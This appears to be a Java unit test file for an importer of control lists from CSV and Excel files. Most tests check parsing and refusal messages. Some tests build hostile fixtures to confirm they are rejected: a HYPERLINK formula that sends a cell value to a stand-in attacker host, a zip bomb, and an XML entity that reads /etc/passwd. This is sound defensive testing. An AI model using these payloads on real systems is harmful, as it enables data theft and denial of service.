package dev.vetted.controls.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vetted.shared.Refusal;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Files as people send them, well meant and not. */
class ControlTableTest {

    private static final LocalDate TODAY = LocalDate.of(2026, 11, 24);

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Id,Title,Status|AC-1,Lock,In place",
                "TITLE,id,status|Lock,AC-1,IN_PLACE",
                "Control ID;Control title;State|AC-1;Lock;in place",
                " id , Title , STATUS |AC-1, Lock ,In-Place",
                "sep=;\\nId;Title;Status|AC-1;Lock;In place",
            })
    void columnsAreFoundByTheirNames(String header, String row) {
        ControlTable table = csv(header.replace("\\n", "\n") + "\n" + row + "\n");

        assertThat(ImportPlan.of(table, Map.of(), TODAY).problems()).isEmpty();
        assertThat(ImportPlan.of(table, Map.of(), TODAY).rows())
                .singleElement()
                .satisfies(it -> assertThat(it.entry().code() + " " + it.entry().title() + " "
                                + it.entry().status())
                        .isEqualTo("AC-1 Lock IN_PLACE"));
    }

    @ParameterizedTest
    @CsvSource({"UTF-8", "windows-1252", "UTF-16"})
    void lettersSurviveEveryEncodingThatSpreadsheetsSave(String charset) {
        ControlTable table = ControlTable.read(
                "Id;Title;Owner\nAC-1;Zutritt für Prüfer;Søren Ümit\n".getBytes(Charset.forName(charset)));

        assertThat(table.rows().getFirst().cells()).containsExactly("AC-1", "Zutritt für Prüfer", "Søren Ümit");
    }

    @Test
    void aMarkAtTheBeginningIsNoPartOfTheFirstName() {
        assertThat(csv("\uFEFFId,Title\nAC-1,Lock\n").readAs()).isEqualTo("CSV in UTF-8, separated by commas");
    }

    @Test
    void rowsAreCountedAsASpreadsheetDoes() {
        ControlTable table = csv("\n\nId,Title\n\nAC-1,\"two\nlines\"\n,,\nAC-2,Lock\n");

        assertThat(table.rows()).extracting(FileRow::number).containsExactly(5, 7);
    }

    @Test
    void columnsThatAreNotOursAreNamedAndLeftAlone() {
        assertThat(csv("Id,Title,Cost centre\nAC-1,Lock,4711\n").ignored()).containsExactly("Cost centre");
    }

    @Test
    void aWorkbookIsReadByItsValues() {
        ControlTable table = ControlTable.read(workbook(sheet -> {
            header(sheet, "Id", "Title", "Last reviewed", "Review interval (months)", "Status");
            Row row = sheet.createRow(3);
            row.createCell(0).setCellValue("AC-1");
            row.createCell(1).setCellValue("Lock");
            row.createCell(2).setCellValue(LocalDate.of(2026, 3, 31));
            CellStyle date = sheet.getWorkbook().createCellStyle();
            date.setDataFormat((short) 14);
            row.getCell(2).setCellStyle(date);
            row.createCell(3).setCellValue(12);
            row.createCell(4).setCellValue("Planned");
        }));

        assertThat(table.rows()).singleElement().satisfies(row -> {
            assertThat(row.number()).isEqualTo(4);
            assertThat(row.cells()).containsExactly("AC-1", "Lock", "2026-03-31", "12", "Planned");
        });
        assertThat(table.readAs()).isEqualTo("Excel workbook, sheet \"Controls\"");
    }

    @Test
    void aFormulaIsNamedAndItsResultNotTaken() {
        ControlTable table = ControlTable.read(workbook(sheet -> {
            header(sheet, "Id", "Title", "Status");
            Row row = sheet.createRow(1);
            row.createCell(0).setCellValue("AC-1");
            row.createCell(1).setCellFormula("HYPERLINK(\"https://evil.example/?\"&A1,\"Lock\")");
            row.createCell(2).setCellValue("In place");
        }));

        assertThat(ImportPlan.of(table, Map.of(), TODAY).problems())
                .extracting(RowProblem::toString)
                .containsExactly("Row 2, Title: The cell holds a formula. Copy the column and paste it as values.");
    }

    @Test
    void aWorkbookThatUnpacksToFarTooMuchIsRefusedBeforeItIsOpened() throws IOException {
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bomb)) {
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            byte[] zeros = new byte[1024 * 1024];
            for (int i = 0; i < 60; i++) {
                zip.write(zeros);
            }
        }

        assertThat(bomb.size()).isLessThan(200_000);
        assertThatThrownBy(() -> ControlTable.read(bomb.toByteArray()))
                .isInstanceOf(Refusal.TooLarge.class)
                .hasMessageContaining("unpacks to far more");
    }

    @Test
    void entitiesOfAWorkbookAreNotExpanded() {
        byte[] hostile = replaced(
                workbook(sheet -> header(sheet, "Id", "Title")),
                "xl/sharedStrings.xml",
                "<?xml version=\"1.0\"?><!DOCTYPE sst [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>&a;</t></si></sst>");

        assertThatThrownBy(() -> ControlTable.read(hostile))
                .isInstanceOf(Refusal.Invalid.class)
                .hasMessageContaining("cannot be read");
    }

    @Test
    void whatIsNoListIsRefusedWithWhatToDo() {
        refused(new byte[0], "empty");
        refused("%PDF-1.7\u0000\u0001".getBytes(StandardCharsets.UTF_8), "neither text nor an Excel workbook");
        refused(new byte[] {'P', 'K', 3, 4, 1, 2, 3}, "damaged");
        refused(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0}, "old Excel workbook");
        refused("Name of cat,Colour\nTom,grey\n".getBytes(StandardCharsets.UTF_8), "no column Id");
        refused("Id,Title,ID\nAC-1,Lock,AC-2\n".getBytes(StandardCharsets.UTF_8), "Two columns are headed \"Id\"");
        refused("\n\n".getBytes(StandardCharsets.UTF_8), "has no rows");
        refused("Id,Title\nAC-1,\"Lock\nAC-2,Key\n".getBytes(StandardCharsets.UTF_8), "quotation marks");
    }

    @Test
    void moreRowsThanAListHasAreRefused() {
        String row = "AC-1,Lock\n";

        assertThat(csv("Id,Title\n" + row.repeat(5000)).rows()).hasSize(5000);
        assertThatThrownBy(() -> csv("Id,Title\n" + row.repeat(5001)))
                .isInstanceOf(Refusal.TooLarge.class)
                .hasMessageContaining("more than 5000 rows");
    }

    @Test
    void aFileThatIsTooLargeIsRefused() {
        assertThatThrownBy(() -> ControlTable.read(new byte[5 * 1024 * 1024 + 1]))
                .isInstanceOf(Refusal.TooLarge.class);
    }

    private static void refused(byte[] content, String because) {
        assertThatThrownBy(() -> ControlTable.read(content))
                .isInstanceOf(Refusal.Invalid.class)
                .hasMessageContaining(because);
    }

    private static ControlTable csv(String text) {
        return ControlTable.read(text.getBytes(StandardCharsets.UTF_8));
    }

    private static void header(Sheet sheet, String... names) {
        Row row = sheet.createRow(0);
        for (int i = 0; i < names.length; i++) {
            row.createCell(i).setCellValue(names[i]);
        }
    }

    private static byte[] workbook(Consumer<Sheet> filling) {
        try (XSSFWorkbook workbook = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            filling.accept(workbook.createSheet("Controls"));
            workbook.write(out);
            return out.toByteArray();
        } catch (IOException impossible) {
            throw new AssertionError(impossible);
        }
    }

    private static byte[] replaced(byte[] workbook, String part, String content) {
        try (var in = new ZipInputStream(new ByteArrayInputStream(workbook));
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                ZipOutputStream zip = new ZipOutputStream(out)) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                zip.putNextEntry(new ZipEntry(entry.getName()));
                zip.write(entry.getName().equals(part) ? content.getBytes(StandardCharsets.UTF_8) : in.readAllBytes());
            }
            zip.finish();
            return out.toByteArray();
        } catch (IOException impossible) {
            throw new AssertionError(impossible);
        }
    }
}
